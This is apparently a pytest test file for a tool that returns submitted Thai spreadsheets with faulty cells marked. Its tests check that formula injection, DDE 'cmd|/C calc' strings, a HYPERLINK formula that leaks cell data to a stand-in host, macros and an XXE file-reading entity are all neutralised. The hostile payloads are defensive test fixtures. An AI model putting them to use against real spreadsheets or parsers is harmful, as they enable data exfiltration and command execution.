"""The reply to a sender: the own workbook back, marked; hostile texts stay texts."""

from __future__ import annotations

import importlib.util
import os
import subprocess
import sys
from collections.abc import Sequence
from io import BytesIO
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import xlwt
from defusedxml import EntitiesForbidden
from openpyxl.comments import Comment
from openpyxl.styles import Font, PatternFill

from ssg_metrics.config import Limits
from ssg_metrics.intake.marking import write
from ssg_metrics.intake.reply import AUTHOR, FILLS
from ssg_metrics.intake.reply import reply as plan
from ssg_metrics.intake.report import marked
from ssg_metrics.model import Checked, Finding, Severity
from tests.workbooks import check_paths, clean, marks, save, unknown_group, with_cell

DANGEROUS = '=HYPERLINK("http://example.invalid/"&A1,"เปิด")'


def book_of(data: bytes) -> Any:
    return openpyxl.load_workbook(BytesIO(data))


def reply(path: Path, lang: str = "th", **more: Any) -> tuple[Any, Checked]:
    """The marked workbook of a file that is checked for real."""
    (checked,) = check_paths([path])
    return book_of(marked(path.read_bytes(), path.name, checked.findings, lang, **more)), checked


def fill(cell: Any) -> str | None:
    return cell.fill.fgColor.rgb[2:] if cell.fill.fill_type == "solid" else None


def listed(book: Any) -> list[Sequence[Any]]:
    return list(book.worksheets[1].iter_rows(min_row=2, values_only=True))


def grey(rgb: str) -> float:
    red, green, blue = (int(rgb[n : n + 2], 16) for n in (0, 2, 4))
    return 0.3 * red + 0.59 * green + 0.11 * blue


def test_the_faulty_cell_is_coloured_and_commented_and_the_rest_is_as_it_was(
    tmp_path: Path,
) -> None:
    path = save(unknown_group(), tmp_path / "พะเยา.xlsx")
    sent = openpyxl.load_workbook(path)
    sheet = sent["เวที"]
    sheet["A1"].font = Font(bold=True, color="FF112233")
    sheet["C2"].fill = PatternFill("solid", fgColor="FFAABBCC")
    sheet.column_dimensions["A"].width = 33
    sheet["D2"].comment = Comment("ถามอำเภอแล้ว", "หัวหน้า")
    sheet["A3"].comment = Comment("กลุ่มใหม่", "หัวหน้า")
    sheet["F9"] = "=SUM(C2:C3)"
    sent.save(path)
    book, checked = reply(path)
    assert marks(checked) == [("unknown_group", "A3")]
    sheet = book["เวที"]
    assert fill(sheet["A3"]) == FILLS["error"]
    assert sheet["A3"].comment.text.startswith("กลุ่มใหม่")
    assert "PYO-09" in sheet["A3"].comment.text and "→" in sheet["A3"].comment.text
    assert (sheet["A1"].font.bold, sheet["A1"].font.color.rgb) == (True, "FF112233")
    assert fill(sheet["C2"]) == "AABBCC"
    assert sheet.column_dimensions["A"].width == 33
    assert sheet["D2"].comment.text == "ถามอำเภอแล้ว"
    assert sheet["F9"].value == "=SUM(C2:C3)"
    assert book.sheetnames == ["สรุปผลการตรวจ", "รายการที่ตรวจพบ", *sent.sheetnames]


def test_the_list_names_every_finding_and_leads_to_its_cell(tmp_path: Path) -> None:
    sheets = with_cell("เวที", "C3", "สิบห้า")
    sheets["แผนพัฒนา"][1][1] = "31/2/2564"
    book, checked = reply(save(sheets, tmp_path / "a.xlsx"), "en")
    rows = listed(book)
    assert [(row[1], row[2], row[3]) for row in rows] == [
        (f.sheet, f.cell, f.text) for f in checked.findings
    ]
    assert all(row[4] and row[5] for row in rows)
    assert book.worksheets[1]["C2"].hyperlink.location == "'เวที'!C3"
    summary = list(book.worksheets[0].iter_rows(values_only=True))
    assert sum(row[2] for row in summary if isinstance(row[2], int)) == len(checked.findings)
    assert any("a.xlsx" in str(row[0]) for row in summary)


def test_errors_and_warnings_differ_in_colour_and_in_grey() -> None:
    assert grey(FILLS["warning"]) - grey(FILLS["error"]) > 40


def test_an_error_goes_before_a_warning_in_one_cell(tmp_path: Path) -> None:
    path = save(clean(), tmp_path / "a.xlsx")
    here: Any = {"file": "a.xlsx", "sheet": "เวที", "row": 3, "column": "participants", "cell": "C3"}
    params = {"expected": "15", "column": "participants", "column_th": "จำนวนผู้เข้าร่วม"}
    found = [
        Finding("participants_differ", Severity.WARNING, text="14", params=params, **here),
        Finding("required_empty", Severity.ERROR, text="14", params=params, **here),
    ]
    above = {**here, "row": 2, "cell": "C2"}
    found.append(Finding("participants_differ", Severity.WARNING, params=params, **above))
    book = book_of(marked(path.read_bytes(), "a.xlsx", found, "th"))
    assert fill(book["เวที"]["C3"]) == FILLS["error"]
    assert fill(book["เวที"]["C2"]) == FILLS["warning"]
    text = book["เวที"]["C3"].comment.text
    assert text.index("ต้องแก้ไข") < text.index("ควรตรวจสอบ")


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_no_text_of_a_cell_becomes_a_formula(tmp_path: Path, suffix: str) -> None:
    sheets = with_cell("เวที", "C3", "@SUM(1)")
    sheets["เวที"][2][0] = "+cmd|' /C calc'!A0"
    path = save(sheets, tmp_path / "a.xlsx")
    book = openpyxl.load_workbook(path)
    cell = book["เวที"]["B3"]
    cell.value, cell.data_type = DANGEROUS, "s"
    book.save(path)
    if suffix == "csv":
        lines = ["group_code,held_on,participants", "\"+cmd|' /C calc'!A0\",=1+2,@SUM(1)"]
        path = tmp_path / "forums.csv"
        path.write_text("\n".join(lines), "utf-8")
    book, checked = reply(path)
    assert checked.findings
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert not [c.coordinate for c in row if c.data_type == "f"]
            assert not [c for c in row if c.hyperlink is not None and c.hyperlink.target]
    hostile = [row[3] for row in listed(book) if str(row[3]).startswith(("=", "+", "@"))]
    assert hostile


def test_a_formula_that_reaches_outside_becomes_text(tmp_path: Path) -> None:
    path = save(unknown_group(), tmp_path / "a.xlsx")
    book = openpyxl.load_workbook(path)
    book["เวที"]["H1"] = DANGEROUS
    book["เวที"]["H2"] = "=cmd|'/C calc'!A0"
    book["เวที"]["H3"] = "=C2+C3"
    book["เวที"]["H4"] = "ลิงก์"
    book["เวที"]["H4"].hyperlink = "http://example.invalid/"
    book.save(path)
    sheet = reply(path)[0]["เวที"]
    assert [sheet[c].data_type for c in ("H1", "H2", "H3")] == ["s", "s", "f"]
    assert sheet["H1"].value == DANGEROUS
    assert sheet["H4"].hyperlink is None and sheet["H4"].value == "ลิงก์"


def test_a_reply_sent_back_mended_goes_in_without_a_word(tmp_path: Path) -> None:
    path = save(unknown_group(), tmp_path / "a.xlsx")
    (checked,) = check_paths([path])
    for lang in ("th", "en"):
        mended = book_of(marked(path.read_bytes(), "a.xlsx", checked.findings, lang))
        mended["เวที"]["A3"] = "PYO-02"
        again = tmp_path / f"a-{lang}.xlsx"
        mended.save(again)
        (back,) = check_paths([again])
        assert marks(back) == []
        passed = [(s.sheet, s.why) for s in back.sheets if s.table is None]
        assert passed == [(title, "no_table") for title in mended.sheetnames[:2]]


def test_a_reply_to_a_reply_shows_only_what_is_wrong_now(tmp_path: Path) -> None:
    path = save(unknown_group(), tmp_path / "a.xlsx")
    (checked,) = check_paths([path])
    first = book_of(marked(path.read_bytes(), "a.xlsx", checked.findings, "th"))
    first["เวที"]["A3"] = "PYO-02"
    first["เวที"]["C2"] = "?"
    first["เวที"]["A3"].comment.author = AUTHOR
    first.save(path)
    book, checked = reply(path, "en")
    assert [f.cell for f in checked.findings] == ["C2"]
    assert fill(book["เวที"]["A3"]) is None and book["เวที"]["A3"].comment is None
    assert fill(book["เวที"]["C2"]) == FILLS["error"]
    assert book.sheetnames[:3] == ["Check summary", "Findings", "กลุ่มเป้าหมาย"]


def test_a_mark_in_a_merged_block_stands_at_its_first_cell(tmp_path: Path) -> None:
    path = save(unknown_group(), tmp_path / "a.xlsx")
    sent = openpyxl.load_workbook(path)
    sent["เวที"].merge_cells("A2:A3")
    sent.save(path)
    finding = Finding(
        "unknown_group", Severity.ERROR, "a.xlsx", "เวที", 3, "group_code", "A3", "PYO-09",
        {"near": "–", "column_th": "รหัสกลุ่ม", "sheet": "เวที", "table_th": "เวที"},
    )  # fmt: skip
    sheet = book_of(marked(path.read_bytes(), "a.xlsx", [finding], "th"))["เวที"]
    assert fill(sheet["A2"]) == FILLS["error"] and sheet["A2"].comment


ROWS = [["รหัสกลุ่ม", "วันที่จัดเวที", "จำนวนผู้เข้าร่วม"], ["PYO-09", "31/2/2564", "-5"]]


def as_xls(path: Path) -> None:
    book = xlwt.Workbook()
    sheet = book.add_sheet("เวที")
    for at, row in enumerate(ROWS):
        for column, value in enumerate(row):
            sheet.write(at, column, value)
    book.save(str(path))


def as_csv(path: Path) -> None:
    path.write_bytes("\r\n".join(",".join(row) for row in ROWS).encode("cp874"))


def as_parquet(path: Path) -> None:
    columns = ("group_code", "held_on", "participants")
    values = dict(zip(columns, ([v] for v in ROWS[1]), strict=True))
    pq.write_table(pa.table(values), path)


@pytest.mark.parametrize(
    ("name", "make"), [("เวที.xls", as_xls), ("เวที.csv", as_csv), ("forums.parquet", as_parquet)]
)
def test_other_formats_come_back_as_xlsx_with_the_same_cells_marked(
    tmp_path: Path, name: str, make: Any
) -> None:
    path = tmp_path / name
    make(path)
    book, checked = reply(path)
    cells = [f.cell for f in checked.findings]
    assert cells == ["B2", "C2"]
    sheet = book.worksheets[2]
    assert [str(sheet.cell(2, n).value) for n in (1, 2, 3)] == ROWS[1]
    assert [fill(sheet[cell]) for cell in cells] == [FILLS["error"]] * 2
    assert all(sheet[cell].comment for cell in cells)


def test_macros_are_not_kept_and_that_is_said(tmp_path: Path) -> None:
    path = save(unknown_group(), tmp_path / "a.xlsm")
    with ZipFile(path, "a") as archive:
        archive.writestr("xl/vbaProject.bin", b"macro")
    (checked,) = check_paths([path])
    data = marked(path.read_bytes(), path.name, checked.findings, "en")
    with ZipFile(BytesIO(data)) as archive:
        assert not [name for name in archive.namelist() if "vba" in name.lower()]
    texts = [str(row[0]) for row in book_of(data).worksheets[0].iter_rows(values_only=True)]
    assert any("macros" in text for text in texts)


def with_part(path: Path, part: str, data: bytes) -> Path:
    """A copy of a workbook with one of its parts replaced."""
    copy = path.with_name("copy.xlsx")
    with ZipFile(path) as source, ZipFile(copy, "w") as target:
        for name in source.namelist():
            target.writestr(name, data if name == part else source.read(name))
    return copy


def test_a_workbook_that_openpyxl_does_not_take_is_built_anew(tmp_path: Path) -> None:
    path = with_part(save(unknown_group(), tmp_path / "a.xlsx"), "docProps/core.xml", b"<broken")
    book, checked = reply(path)
    assert marks(checked) == [("unknown_group", "A3")]
    assert fill(book["เวที"]["A3"]) == FILLS["error"] and book["เวที"]["A3"].comment
    told = [str(row[0]) for row in book.worksheets[0].iter_rows(values_only=True)]
    assert any(text.startswith("ชีตในไฟล์นี้สร้างขึ้นใหม่") for text in told)


def test_a_workbook_that_takes_too_much_memory_to_mark_is_built_anew(tmp_path: Path) -> None:
    rows = [[f"{n}-{c}" for c in range(60)] for n in range(2_000)]
    path = save({**unknown_group(), "อื่น": rows}, tmp_path / "a.xlsx")
    (checked,) = check_paths([path])
    limits = Limits(memory_bytes=130_000_000)
    book = book_of(marked(path.read_bytes(), "a.xlsx", checked.findings, "th", limits))
    assert book.sheetnames[:2] == ["สรุปผลการตรวจ", "รายการที่ตรวจพบ"]


def test_entities_are_never_resolved(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("ความลับ", "utf-8")
    head = f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{secret}">]>'
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    words = f"<styleSheet xmlns='{space}'>&a;</styleSheet>"
    path = save(unknown_group(), tmp_path / "a.xlsx")
    hostile = with_part(path, "xl/styles.xml", (head + words).encode())
    with pytest.raises(ValueError) as refused:
        write(hostile, tmp_path / "out.xlsx", plan("a.xlsx", [], "th"))
    assert isinstance(refused.value.__cause__, EntitiesForbidden)
    assert not (tmp_path / "out.xlsx").exists()
    data = marked(hostile.read_bytes(), "a.xlsx", [], "th")
    with ZipFile(BytesIO(data)) as archive:
        assert not any("ความลับ".encode() in archive.read(name) for name in archive.namelist())


def test_the_marking_process_reads_xml_with_defusedxml_though_lxml_is_there() -> None:
    ask = "import ssg_metrics.intake.marking, openpyxl as o; print(o.LXML, o.DEFUSEDXML)"
    bare = {name: text for name, text in os.environ.items() if name != "OPENPYXL_LXML"}
    command = [sys.executable, "-c", ask]
    said = subprocess.run(command, env=bare, capture_output=True, text=True, check=True)
    assert importlib.util.find_spec("lxml") and said.stdout.split() == ["False", "True"]


def test_a_file_that_cannot_be_read_gets_summary_and_list_only() -> None:
    fault = Finding(
        "file_damaged", Severity.FILE, "a.xlsx",
        params={"found": "", "allowed": "", "sheet": "", "text": "", "file": "a.xlsx"},
    )  # fmt: skip
    book = book_of(marked(b"no workbook", "a.xlsx", [fault], "th"))
    assert book.sheetnames == ["สรุปผลการตรวจ", "รายการที่ตรวจพบ"]
    assert len(listed(book)) == 1
